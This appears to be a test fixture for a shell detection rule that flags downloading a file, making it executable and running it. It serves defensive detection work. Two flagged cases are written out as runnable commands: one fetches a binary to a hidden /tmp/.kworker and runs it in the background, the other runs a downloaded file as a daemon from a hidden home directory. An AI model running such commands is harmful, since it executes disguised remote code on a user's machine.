#!/bin/bash
# Fixture for sh-download-tmp-exec.
# RULEID: download to /tmp, chmod +x and run in the background; to a hidden home dir and run.
# OK: download to /tmp then installed into PATH without running; download then checksum verify.

# ruleid: sh-download-tmp-exec
curl -fsSL http://198.51.100.40/k -o /tmp/.kworker
chmod +x /tmp/.kworker
nohup /tmp/.kworker >/dev/null 2>&1 &

# ruleid: sh-download-tmp-exec
wget -q https://cdn.example.net/a -O ~/.cache-x/agent
chmod 755 ~/.cache-x/agent
~/.cache-x/agent --daemon

# ok: sh-download-tmp-exec
curl -fsSLo /tmp/kind https://kind.example.org/v0.20.0/kind-linux-amd64
chmod +x /tmp/kind
mv /tmp/kind /usr/local/bin/kind
